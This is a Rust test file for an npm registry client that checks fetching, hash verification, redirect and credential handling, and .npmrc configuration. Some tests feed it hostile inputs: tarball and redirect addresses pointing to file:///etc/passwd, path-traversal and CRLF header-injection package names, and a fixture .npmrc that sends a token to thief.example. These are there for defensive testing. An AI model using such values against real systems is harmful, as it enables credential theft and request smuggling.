//! npm registries: where they are found, what is asked, what is believed.
#![allow(clippy::unwrap_used, reason = "helpers of tests fail as tests do")]

mod common;

use std::sync::Arc;

use common::{hash, registries, vars};
use faultline_package::{Ecosystem, Integrity};
use faultline_source::{ClientEnvironment, Fetched, Http, Registries, RegistryConfig, Result, Verified};
use faultline_testkit::{Reply, Request, Server, tar_gz, write_tree};

const JSON: &str = "application/json";
const BYTES: &str = "application/octet-stream";

fn tarball() -> Vec<u8> {
    tar_gz(&[("package/package.json", b"{}"), ("package/index.js", b"exports.x = 1")])
}

/// A package document with one version whose tarball is at `address`.
fn document(address: &str, bytes: &[u8]) -> Vec<u8> {
    let sha1 = hash("sha1", bytes).hex;
    format!(r#"{{"name":"x","versions":{{"1.0.0":{{"dist":{{"tarball":"{address}","shasum":"{sha1}"}}}}}}}}"#)
        .into_bytes()
}

/// A registry that has every package at 1.0.0, and serves its tarball itself.
fn honest() -> Server {
    Server::start(|request: &Request| {
        if request.path.contains("/-/") {
            return Reply::Ok(BYTES, tarball());
        }
        let address = format!("http://{}{}/-/x-1.0.0.tgz", request.header("host").unwrap_or_default(), request.path);
        Reply::Ok(JSON, document(&address, &tarball()))
    })
}

fn at(server: &Server) -> RegistryConfig {
    RegistryConfig { npm: Some(server.url("/npm")), ..RegistryConfig::default() }
}

fn with_token(server: &Server) -> RegistryConfig {
    let authorization = [(server.url("/"), "Bearer secret".to_owned())].into();
    RegistryConfig { authorization, ..at(server) }
}

fn npm(registries: &Registries, name: &str, version: &str, promised: &[Integrity]) -> Result<Fetched> {
    common::fetch(registries, Ecosystem::Npm, name, version, promised)
}

fn fetch(config: RegistryConfig) -> Result<Fetched> {
    npm(&registries(config, ClientEnvironment::default()), "x", "1.0.0", &[])
}

fn code(config: RegistryConfig) -> &'static str {
    fetch(config).unwrap_err().code()
}

fn asked(server: &Server) -> Vec<(String, Option<String>)> {
    let line = |r: Request| (r.path.clone(), r.header("authorization").map(str::to_owned));
    server.requests().into_iter().map(line).collect()
}

#[test]
fn a_version_is_fetched_and_checked_against_the_registry() {
    let server = honest();
    let fetched = fetch(at(&server)).unwrap();
    assert_eq!(fetched.verified, Verified::Registry);
    assert_eq!(&**fetched.files.get("index.js").unwrap(), b"exports.x = 1");
    assert_eq!(asked(&server), [("/npm/x".to_owned(), None), ("/npm/x/-/x-1.0.0.tgz".to_owned(), None)]);
    assert!(server.requests()[0].header("accept").unwrap().contains("vnd.npm.install-v1+json"));
}

#[test]
fn the_document_of_a_package_is_asked_for_once() {
    let server = honest();
    let registries = registries(at(&server), ClientEnvironment::default());
    npm(&registries, "x", "1.0.0", &[]).unwrap();
    assert_eq!(npm(&registries, "x", "2.0.0", &[]).unwrap_err().code(), "not_found");
    assert_eq!(server.requests().len(), 2);
}

#[test]
fn a_scoped_name_is_one_part_of_the_path() {
    let server = honest();
    npm(&registries(at(&server), ClientEnvironment::default()), "@acme/x", "1.0.0", &[]).unwrap();
    assert_eq!(server.requests()[0].path, "/npm/@acme%2fx");
}

#[test]
fn the_lockfiles_hash_wins_over_the_registrys() {
    let server = honest();
    let registries = registries(at(&server), ClientEnvironment::default());
    let fetched = npm(&registries, "x", "1.0.0", &[hash("sha512", &tarball())]).unwrap();
    assert_eq!(fetched.verified, Verified::Lockfile);
    let error = npm(&registries, "x", "1.0.0", &[hash("sha512", b"what was locked")]).unwrap_err();
    assert_eq!(error.code(), "hash_mismatch");
    assert!(error.to_string().contains("x@1.0.0"), "{error}");
}

#[test]
fn a_tarball_that_is_not_what_the_registry_promised_is_refused() {
    let server = Server::start(|request: &Request| {
        let address = format!("http://{}/x.tgz", request.header("host").unwrap_or_default());
        if request.path == "/x.tgz" {
            Reply::Ok(BYTES, tarball())
        } else {
            Reply::Ok(JSON, document(&address, b"other"))
        }
    });
    assert_eq!(code(at(&server)), "hash_mismatch");
}

#[test]
fn a_registry_without_hashes_is_told() {
    let server = Server::start(|request: &Request| match request.path.as_str() {
        "/x.tgz" => Reply::Ok(BYTES, tarball()),
        _ => Reply::Ok(JSON, br#"{"versions":{"1.0.0":{"dist":{"tarball":"/x.tgz"}}}}"#.to_vec()),
    });
    let fetched = fetch(at(&server)).unwrap();
    assert_eq!((fetched.verified, fetched.files.problems[0].code.as_str()), (Verified::Not, "not_verified"));
}

#[test]
fn what_a_bad_registry_does_has_a_name() {
    let replies: [(Reply, &str, usize); 14] = [
        (Reply::Hang, "timeout", 1),
        (Reply::Stall(5000, b"{".to_vec()), "timeout", 1),
        (Reply::Truncated(5000, b"{\"versions\":".to_vec()), "truncated", 3),
        (Reply::Close, "network", 3),
        (Reply::Raw(b"SSH-2.0-OpenSSH_9.6\r\n".to_vec()), "network", 3),
        (Reply::Status(500), "network", 3),
        (Reply::Status(404), "not_found", 1),
        (Reply::Status(401), "refused", 1),
        (Reply::Status(418), "bad_answer", 1),
        (Reply::Endless, "too_large", 1),
        (Reply::Ok(JSON, b"<html>log in</html>".to_vec()), "bad_answer", 1),
        (Reply::Ok(JSON, "[".repeat(100_000).into_bytes()), "bad_answer", 1),
        (
            Reply::Ok(JSON, br#"{"versions":{"1.0.0":{"dist":{"tarball":"file:///etc/passwd"}}}}"#.to_vec()),
            "bad_answer",
            1,
        ),
        (Reply::Ok(JSON, br#"{"versions":{"1.0.0":{}}}"#.to_vec()), "not_found", 1),
    ];
    for (reply, expected, requests) in replies {
        let told = format!("{reply:?}").chars().take(60).collect::<String>();
        let server = Server::start(move |_: &Request| reply.clone());
        assert_eq!((code(at(&server)), server.requests().len()), (expected, requests), "{told}");
    }
}

#[test]
fn a_tarball_that_hangs_or_ends_early_has_a_name() {
    for (reply, expected) in [
        (Reply::Hang, "timeout"),
        (Reply::Truncated(9000, tarball()), "truncated"),
        (Reply::Endless, "too_large"),
        (Reply::Ok(BYTES, tarball()[..60].to_vec()), "hash_mismatch"),
        (Reply::Status(404), "not_found"),
    ] {
        let server = Server::start(move |request: &Request| {
            let address = format!("http://{}/x.tgz", request.header("host").unwrap_or_default());
            if request.path == "/x.tgz" { reply.clone() } else { Reply::Ok(JSON, document(&address, &tarball())) }
        });
        assert_eq!(code(at(&server)), expected);
    }
}

#[test]
fn an_answer_that_comes_and_goes_is_asked_for_again() {
    let failures = Arc::new(std::sync::atomic::AtomicUsize::new(2));
    let server = Server::start(move |request: &Request| {
        let left =
            failures.fetch_update(std::sync::atomic::Ordering::SeqCst, std::sync::atomic::Ordering::SeqCst, |n| {
                n.checked_sub(1)
            });
        if left.is_ok() {
            return Reply::Close;
        }
        let address = format!("http://{}/x.tgz", request.header("host").unwrap_or_default());
        if request.path == "/x.tgz" {
            Reply::Ok(BYTES, tarball())
        } else {
            Reply::Ok(JSON, document(&address, &tarball()))
        }
    });
    assert!(fetch(at(&server)).is_ok());
}

#[test]
fn credentials_do_not_follow_a_redirect_to_another_host() {
    let thief = honest();
    let to = thief.url("/stolen");
    let server = Server::start(move |_: &Request| Reply::Redirect(to.clone()));
    let _ = fetch(with_token(&server));
    assert_eq!(asked(&server)[0].1.as_deref(), Some("Bearer secret"));
    assert_eq!(asked(&thief)[0], ("/stolen".to_owned(), None));
}

#[test]
fn credentials_follow_a_redirect_on_their_own_host() {
    let server = Server::start(|request: &Request| match request.path.as_str() {
        "/npm/x" => Reply::Redirect("/moved".to_owned()),
        _ => Reply::Status(404),
    });
    assert_eq!(code(with_token(&server)), "not_found");
    assert_eq!(asked(&server)[1], ("/moved".to_owned(), Some("Bearer secret".to_owned())));
}

#[test]
fn redirects_without_end_or_to_files_are_refused() {
    let server = Server::start(|request: &Request| Reply::Redirect(format!("{}x", request.path)));
    assert_eq!(code(at(&server)), "bad_answer");
    assert_eq!(server.requests().len(), 6);
    let server = Server::start(|_: &Request| Reply::Redirect("file:///etc/passwd".to_owned()));
    assert_eq!(code(at(&server)), "bad_answer");
}

#[test]
fn a_tarball_on_another_host_is_fetched_without_credentials() {
    let other = Server::start(|_: &Request| Reply::Ok(BYTES, tarball()));
    let address = other.url("/files/x.tgz");
    let server = Server::start(move |request: &Request| {
        if request.path == "/npm/x" { Reply::Ok(JSON, document(&address, &tarball())) } else { Reply::Status(404) }
    });
    fetch(with_token(&server)).unwrap();
    assert_eq!(asked(&server)[1].0, "/files/x.tgz", "a mirror may have it under the same path");
    assert_eq!(asked(&other), [("/files/x.tgz".to_owned(), None)]);
}

#[test]
fn offline_asks_nobody() {
    let server = honest();
    let http = Http::new(&common::quick(), true);
    let registries = Registries::new(at(&server), ClientEnvironment::default(), http, common::limits());
    assert_eq!(npm(&registries, "x", "1.0.0", &[]).unwrap_err().code(), "offline");
    assert!(server.requests().is_empty());
}

#[test]
fn names_and_versions_from_lockfiles_cannot_choose_the_path() {
    let server = honest();
    let registries = registries(with_token(&server), ClientEnvironment::default());
    for bad in ["../../admin", "x?y=z", "x#", "@a/../b", "http://evil.example/x", "a\r\nHost: evil"] {
        assert_eq!(npm(&registries, bad, "1.0.0", &[]).unwrap_err().code(), "bad_input", "{bad}");
    }
    assert_eq!(npm(&registries, "x", "../1.0.0", &[]).unwrap_err().code(), "not_found");
    assert_eq!(server.requests().len(), 1);
}

fn address(environment: ClientEnvironment, config: RegistryConfig) -> (String, &'static str) {
    registries(config, environment).address(Ecosystem::Npm).unwrap()
}

#[test]
fn nothing_configured_is_an_error_with_a_remedy() {
    let registries = registries(RegistryConfig::default(), ClientEnvironment::default());
    let error = npm(&registries, "x", "1.0.0", &[]).unwrap_err();
    assert_eq!(error.code(), "registry_not_configured");
    assert!(error.to_string().contains("npm_config_registry"), "{error}");
}

#[test]
fn configuration_then_environment_then_the_users_file() {
    let home = tempfile::tempdir().unwrap();
    write_tree(home.path(), &[(".npmrc", "registry=https://home.registry.example/npm\n")]);
    let mut environment = vars(&[("NPM_CONFIG_REGISTRY", "https://env.registry.example")]);
    environment.home = Some(home.path().to_owned());
    let explicit = RegistryConfig { npm: Some("https://own.registry.example/".into()), ..RegistryConfig::default() };
    let expected = ("https://own.registry.example/".to_owned(), "configuration");
    assert_eq!(address(environment.clone(), explicit), expected);
    let expected = ("https://env.registry.example/".to_owned(), "environment");
    assert_eq!(address(environment.clone(), RegistryConfig::default()), expected);
    environment.vars.clear();
    let expected = ("https://home.registry.example/npm/".to_owned(), "~/.npmrc");
    assert_eq!(address(environment, RegistryConfig::default()), expected);
}

#[test]
fn scopes_and_tokens_come_from_the_users_file() {
    let (public, acme) = (honest(), honest());
    let home = tempfile::tempdir().unwrap();
    let text = format!(
        "registry={}\n@acme:registry={}\n//{}/private/:_authToken=${{ACME_TOKEN}}\n",
        public.url("/"),
        acme.url("/private/"),
        acme.host()
    );
    write_tree(home.path(), &[(".npmrc", &text)]);
    let environment = ClientEnvironment { home: Some(home.path().to_owned()), ..vars(&[("ACME_TOKEN", "t0ken")]) };
    let registries = registries(RegistryConfig::default(), environment);
    npm(&registries, "@acme/x", "1.0.0", &[]).unwrap();
    npm(&registries, "x", "1.0.0", &[]).unwrap();
    assert!(asked(&acme).iter().all(|(p, a)| p.starts_with("/private/") && a.as_deref() == Some("Bearer t0ken")));
    assert!(asked(&public).iter().all(|(_, a)| a.is_none()));
    assert_eq!((asked(&acme).len(), asked(&public).len()), (2, 2));
}

/// A stand-in for npm that tells where it runs.
#[cfg(unix)]
fn fake_npm(bin: &std::path::Path, script: &str) -> ClientEnvironment {
    use std::os::unix::fs::PermissionsExt;
    let file = bin.join("npm");
    std::fs::write(&file, format!("#!/bin/sh\n{script}\n")).unwrap();
    std::fs::set_permissions(&file, PermissionsExt::from_mode(0o755)).unwrap();
    let path = format!("{}:/usr/bin:/bin", bin.display());
    ClientEnvironment { ask_clients: true, ..vars(&[("PATH", &path)]) }
}

#[cfg(unix)]
#[test]
fn the_installed_client_is_asked_outside_of_any_project() {
    let bin = tempfile::tempdir().unwrap();
    let script =
        r#"cd "$PWD"; (pwd; ls -A) > "$(dirname "$0")/witness"; echo '{"registry":"https://asked.registry.example/"}'"#;
    let environment = fake_npm(bin.path(), script);
    // A scanned repository with a file that sends the user's token elsewhere.
    write_tree(bin.path(), &[(".npmrc", "registry=https://thief.example/\n//thief.example/:_authToken=${TOKEN}\n")]);
    let expected = ("https://asked.registry.example/".to_owned(), "npm");
    assert_eq!(address(environment, RegistryConfig::default()), expected);
    let witness = std::fs::read_to_string(bin.path().join("witness")).unwrap();
    let mut lines = witness.lines();
    assert!(!lines.next().unwrap().starts_with(env!("CARGO_MANIFEST_DIR")));
    assert_eq!(lines.collect::<Vec<_>>(), ["package.json"], "an empty project of its own");
}

#[cfg(unix)]
#[test]
fn a_client_that_fails_is_no_answer() {
    for script in ["exit 1", "echo nonsense", "echo '[]'"] {
        let bin = tempfile::tempdir().unwrap();
        let registries = registries(RegistryConfig::default(), fake_npm(bin.path(), script));
        assert_eq!(registries.address(Ecosystem::Npm).unwrap_err().code(), "registry_not_configured", "{script}");
    }
}

#[test]
fn a_download_tells_its_progress_and_keeps_its_limit() {
    let server = Server::start(|_: &Request| Reply::Ok("application/zip", vec![7; 300_000]));
    let http = Http::new(&common::quick(), false);
    let (mut sink, mut last) = (Vec::new(), (0, None));
    let count = http.download(&server.url("/all.zip"), 1 << 20, &mut sink, &mut |n, total| last = (n, total)).unwrap();
    assert_eq!((count, sink.len(), last), (300_000, 300_000, (300_000, Some(300_000))));
    let error = http.download(&server.url("/all.zip"), 1000, &mut sink, &mut |_, _| {}).unwrap_err();
    assert_eq!(error.code(), "too_large");
    assert_eq!(http.download("ftp://x.example/", 1, &mut sink, &mut |_, _| {}).unwrap_err().code(), "bad_input");
}
